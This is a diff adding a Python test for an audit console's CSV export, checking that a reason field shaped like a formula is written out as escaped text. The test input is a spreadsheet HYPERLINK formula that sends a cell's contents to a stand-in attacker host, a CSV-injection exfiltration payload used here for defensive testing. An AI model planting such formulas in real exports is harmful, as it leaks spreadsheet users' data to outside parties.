@@ -140,6 +140,18 @@ def test_it_exports_the_destroyed_view(admin, destroyed):
     assert rows[0]["object_prn"] == destroyed.prn
 
 
+def test_it_exports_a_reason_that_looks_like_a_formula_as_text(admin, version, actor):
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    binary = verified_binary("signable", version)
+    moves.reset(binary=binary, actor=actor, reason=formula)
+
+    html = admin.get(reverse("console:audit"), {"action": "binary.uploadable"}).content.decode()
+    response = admin.get(export_href(html, "csv"))
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+
+    assert [row["reason"] for row in rows] == ["'" + formula]
+
+
 def test_it_pages_the_timeline(admin, org):
     for n in range(60):
         AuditEvent.objects.create(organization=org, actor_label=f"bot-{n}", action="x.y")
